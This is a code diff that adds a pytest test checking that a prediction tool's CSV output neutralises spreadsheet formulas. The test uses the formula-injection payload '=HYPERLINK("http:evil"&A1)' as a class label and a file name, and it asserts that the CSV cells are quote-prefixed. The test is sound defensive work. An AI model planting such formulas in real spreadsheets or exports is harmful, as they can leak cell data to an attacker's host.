@@ -85,6 +85,23 @@ def all_tables(
     return lines, pd.read_csv(files["csv"])
 
 
+def test_a_table_for_people_holds_no_formula(
+    by_hand: ByHand, asked: list[str], tmp_path: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    link = '=HYPERLINK("http:evil"&A1)'
+    bundle = shutil.copytree(by_hand("classification"), tmp_path / "bundle")
+    about = (bundle / "bundle.json").read_text()
+    (bundle / "bundle.json").write_text(about.replace('"brick"', json.dumps(link)))
+    monkeypatch.chdir(tmp_path)
+    Path("a.npy").rename(f"{link}.npy")
+    predict.run(bundle, [f"{link}.npy"], csv=Path("said.csv"), jsonl=Path("said.jsonl"))
+    row = pd.read_csv("said.csv").iloc[0]
+    assert (row["path"], row["class"]) == (f"'{link}.npy", f"'{link}")
+    assert row["likely"].startswith(f"'{link}")
+    told = json.loads(Path("said.jsonl").read_text())
+    assert (told["path"], told["class"]) == (f"{link}.npy", link)
+
+
 def test_tables_of_several_labels(by_hand: ByHand, asked: list[str], tmp_path: Path) -> None:
     lines, table = all_tables(by_hand("multilabel"), asked, tmp_path)
     assert [row["labels"] for row in lines] == [["brick", "moss"], None, []]
